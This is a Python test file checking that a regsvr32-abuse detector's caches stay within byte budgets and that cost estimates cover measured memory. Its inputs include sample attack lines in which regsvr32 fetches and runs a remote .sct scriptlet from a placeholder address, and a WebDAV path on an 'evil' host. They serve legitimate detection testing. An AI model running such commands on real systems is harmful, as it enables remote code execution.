"""Caches are bounded by bytes, not entries (bounded.py): the budget holds at every put, each
cost estimate is at least what tracemalloc says the answer holds, and a stream of long command
lines of many arguments does not fill the detector's memo with tens of megabytes."""
import gc
import tracemalloc

import pytest

from support.events import sysmon1, sysmon7
from support.samples import MALICIOUS
from regsvr32_detector import Detector, cmdline, fields, winpath
from regsvr32_detector import detector as det
from regsvr32_detector import signature
from regsvr32_detector.bounded import ENTRY_BYTES, Bounded


def long_line(i, args=64, chars=4000, letter="x"):
    """A regsvr32 line of CHARS characters and ARGS module arguments, distinct for each I."""
    per = (chars - 40) // args
    return "C:\\Windows\\System32\\regsvr32.exe /s " + " ".join(
        ("C:\\Users\\Public\\%06d_%02d_" % (i, j) + letter * per)[:per - 1] for j in range(args))


def test_the_budget_holds_at_every_put():
    cache = Bounded(10000, largest=3000)
    for i in range(500):
        cache.put(i, str(i), (i * 37) % 4000)
        assert cache.used <= cache.budget
        assert cache.used == sum(((k * 37) % 4000) + ENTRY_BYTES for k in cache)
    assert cache.put("big", "v", 3000) is False and "big" not in cache   # over largest: not kept
    cache.clear()
    assert cache.used == 0 and not cache


def test_an_answer_is_admitted_from_its_keys_second_sighting():
    cache = Bounded(64 * 8 * 100)          # room for the hashes of 100 keys seen once
    assert [cache.admits(k) for k in ("a", "b", "a", "a")] == [False, False, True, True]
    for i in range(100):                    # the set of keys seen once is full: it starts again
        cache.admits(i)
    assert cache.admits("a") is False and cache.admits("a") is True


def test_the_memo_keeps_a_line_seen_twice_and_not_a_line_seen_once():
    detector = Detector()
    once, twice = (sysmon1("C:\\Windows\\System32\\regsvr32.exe /s C:\\Users\\Public\\%s.dll" % n)
                   for n in ("once", "twice"))
    for row in (once, twice, twice):
        detector.evaluate(row)
    kept = [k[1] for k in detector.memo._answers if k[0] == "cmd"]
    assert twice["CommandLine"] in kept and once["CommandLine"] not in kept


def test_a_verdict_says_whether_the_memo_keeps_it():
    detector = Detector()
    row = sysmon1("C:\\Windows\\System32\\regsvr32.exe /s /u /i:http://203.0.113.9/a.sct scrobj.dll")
    verdicts = [detector.evaluate(dict(row, ProcessId=str(i))) for i in range(6)]
    assert verdicts[0].score > 0 and not verdicts[0].kept
    assert verdicts[-1].kept and verdicts[-1] is verdicts[-2]   # handed back: the same verdict


def _held(make, *args):
    """Bytes allocated by MAKE(*ARGS) and still held while its answer lives."""
    gc.collect()
    tracemalloc.start()
    before = tracemalloc.get_traced_memory()[0]
    answer = make(*args)
    gc.collect()
    held = tracemalloc.get_traced_memory()[0] - before
    tracemalloc.stop()
    return answer, held


LINES = ["regsvr32 /s C:\\Windows\\System32\\msxml6.dll",
         "regsvr32 /s /n /u /i:http://203.0.113.9/pay.sct scrobj.dll",
         long_line(1, 3, 200), long_line(2, 10, 1000), long_line(3, 1, 4000), long_line(4),
         long_line(5, letter="\u00e9"), long_line(6, letter="\u4e00"), long_line(7, letter="\U0001F600"),
         long_line(8, 300, 4300), long_line(9, 64, 20000)]


@pytest.mark.parametrize("line", LINES, ids=["%d:%d" % (i, len(x)) for i, x in enumerate(LINES)])
def test_a_parse_costs_no_more_than_its_estimate(line):
    key = ("cmd", line, "regsvr32.exe", "C:\\Users\\alice")
    # the rules a line's features select are remembered once per set of features, for every
    # line that has them (detector.gated_rules): not part of this answer
    det.gated_rules(cmdline.features(cmdline.parse(line, key[2], key[3])))
    answer, held = _held(det._read_command_line, line, key[2], key[3])
    assert held <= det._parse_cost(key, answer), held


@pytest.mark.parametrize("path", ["C:\\Windows\\System32\\x.dll", "C:\\Users\\Public\\" + "a" * 1000 + ".dll",
                                  "\\\\evil@SSL\\DavWWWRoot\\" + "\U0001F600" * 1000])
def test_a_path_costs_no_more_than_its_estimate(path):
    answer, held = _held(winpath.classify, path)
    assert held <= det._path_cost(("path", path), answer), held


@pytest.mark.parametrize("record", [MALICIOUS, dict(MALICIOUS, ParentCommandLine="cmd /c " + "C:\\x\\" * 600),
                                    dict(MALICIOUS, ParentCommandLine="cmd /c " + "C:\\\U0001F600\\" * 600)])
def test_a_plan_and_a_verdict_cost_no_more_than_their_estimates(record):
    keys = tuple(record)
    plan, held = _held(fields.Plan, keys)
    assert held <= det._plan_cost(("keys", keys), plan)
    detector = Detector()
    for _ in range(2):      # the parse is remembered from its second sighting on: not counted
        detector._judge(fields.normalize(record, plan))
    ev = fields.normalize(record, plan)
    facts = tuple([(k, v) for k, v in ev.values.items() if k not in detector._unread])
    verdict, held = _held(detector._judge, ev)
    assert held <= det._verdict_cost(("verdict", ev.kind, ev.edr, ev.device_paths, facts), verdict)


def _peak_growth(rows):
    detector = Detector()
    gc.collect()
    tracemalloc.start()
    base = tracemalloc.get_traced_memory()[0]
    for row in rows:
        detector.evaluate(row)
    peak = tracemalloc.get_traced_memory()[1] - base
    tracemalloc.stop()
    return peak, detector.memo


def test_long_lines_of_many_arguments_stay_within_the_memo_budget():
    # Each 4,000-character, 64-argument line's parse holds about 55 KB: 600 of them kept by a
    # count of entries held 33 MB. Each is seen twice, so its verdict is remembered too.
    rows = [sysmon1(long_line(i)) for i in range(600) for _ in range(2)]
    peak, memo = _peak_growth(rows)
    assert memo.bytes <= memo.BYTES
    assert peak <= memo.BYTES + (2 << 20), peak


def test_ordinary_answers_are_still_remembered_by_the_thousand():
    lines = ["regsvr32 /s C:\\Program Files\\Vendor%d\\x%d.dll" % (i, i) for i in range(3000)]
    detector, most = Detector(), 0
    for line in lines + lines:
        detector.evaluate(sysmon1(line))
        assert detector.memo.bytes <= detector.memo.BYTES
        most = max(most, len(detector.memo))
    assert most >= 3000         # each line's parse, and then its verdict


def test_the_signature_and_address_caches_hold_their_budgets():
    for i in range(3000):
        for _ in range(2):      # kept from the second sighting on
            signature.fold_path("C:\\Users\\u%d\\%s.dll" % (i, "\U0001F600" * 1000))
            winpath.parse_ip("10.%d.%d.1" % (i // 256, i % 256))
    for fn in (signature._fold_path, signature._fold_text, signature._image_of, winpath._parse_ip):
        assert 0 <= fn.cache.used <= fn.cache.budget, fn.__name__
    # 3,000 folds of 1,000 four-byte characters each hold 24 MB: a count of 4,096 kept them all
    assert 0 < len(signature._fold_path.cache) < 3000


def test_image_loads_of_distinct_long_paths_are_bounded_too():
    peak, memo = _peak_growth([sysmon7("C:\\Users\\Public\\%06d%s.dll" % (i, "a" * 3000)) for i in range(2000)])
    assert memo.bytes <= memo.BYTES and peak <= memo.BYTES + (2 << 20), peak
